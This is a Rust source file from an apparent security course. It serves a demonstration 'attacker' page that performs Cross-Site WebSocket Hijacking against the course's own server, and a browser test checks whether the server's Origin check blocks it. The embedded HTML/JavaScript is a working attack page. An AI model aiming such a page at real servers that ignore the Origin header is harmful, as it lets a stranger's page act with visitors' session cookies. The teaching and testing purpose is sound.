//! Cross-Site WebSocket Hijacking, staged: a page on *another origin* that opens a WebSocket to
//! the chapter's server.
//!
//! The browser attaches the visitor's cookies to that upgrade request, because the page is on
//! the same *site*: another port on the same host is another origin (RFC 6454 §4: scheme, host
//! *and* port) but the same site, and cookies ignore the port, so even `SameSite=Strict` cookies
//! come along. (A page of another site gets them only for cookies marked `SameSite=None`: Lax is
//! Chromium's default since 2020, and Firefox and Safari partition third-party cookies.) The WebSocket API has no same-origin rule of its own and
//! no CORS preflight: the only thing that tells the server a stranger's page is asking is the
//! `Origin` header (RFC 6455 §10.2). A server that ignores it hands the stranger a socket that
//! acts as the signed-in user.
//!
//! [`start`] serves the page on its own listener; `one-port attacker` runs it for a class, and
//! the browser test loads it to see the attack fail (`403`) against the checked server and work
//! against the unchecked one.

use std::net::{SocketAddr, TcpListener};
use std::sync::Arc;

use serve::tiny::{Http, header};
use tiny_http::Response;

use crate::server::ServeError;

/// The attacker's page, aimed at `target` (a `ws://…` URL). It writes what happened into
/// elements the browser test reads: `#outcome` (`data-outcome` = `open` or `refused`) and
/// `#received`.
pub fn page(target: &str) -> String {
    // `target` comes from our own command line or test; keep it inside a JSON string anyway.
    let target = target.replace('\\', "\\\\").replace('"', "\\\"").replace('<', "\\u003c");
    format!(
        r#"<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><title>A page on another origin</title></head>
<body>
<h1>A page on another origin</h1>
<p>This page was not served by the chapter's server. It opens <code id="target"></code> anyway;
your browser adds your session cookie to the request.</p>
<p>Outcome: <strong id="outcome" data-outcome="">connecting…</strong></p>
<ol id="received"></ol>
<script>
  var target = "{target}";
  document.getElementById("target").textContent = target;
  var outcome = document.getElementById("outcome");
  var ws = new WebSocket(target);
  ws.onopen = function () {{
    outcome.textContent = "open: the server accepted a socket for a page it never served";
    outcome.setAttribute("data-outcome", "open");
  }};
  ws.onmessage = function (event) {{
    var item = document.createElement("li");
    item.textContent = String(event.data);
    document.getElementById("received").appendChild(item);
  }};
  ws.onclose = function (event) {{
    if (outcome.getAttribute("data-outcome") !== "open") {{
      outcome.textContent = "refused: no socket (close code " + event.code + ")";
      outcome.setAttribute("data-outcome", "refused");
    }}
  }};
</script>
</body>
</html>
"#
    )
}

/// The attacker's server, running.
pub struct Attacker {
    http: Http,
}

impl Attacker {
    /// Where the page is.
    pub fn addr(&self) -> SocketAddr {
        self.http.addr()
    }

    /// Stops serving.
    pub fn stop(self) {
        self.http.stop();
    }

    /// Waits until the server stops (it runs until the process ends).
    pub fn wait(self) {
        self.http.wait();
    }
}

/// Serves [`page`] for `target` at every path on `listener`, with every server's limits.
pub fn start(listener: TcpListener, target: &str) -> Result<Attacker, ServeError> {
    let html = Arc::new(page(target));
    let http = Http::start(listener, &guard::Limits::default(), 1, move |request| {
        let response = Response::from_string(html.as_str())
            .with_header(header("Content-Type", "text/html; charset=utf-8"));
        serve::tiny::respond(request, response);
    })?;
    Ok(Attacker { http })
}
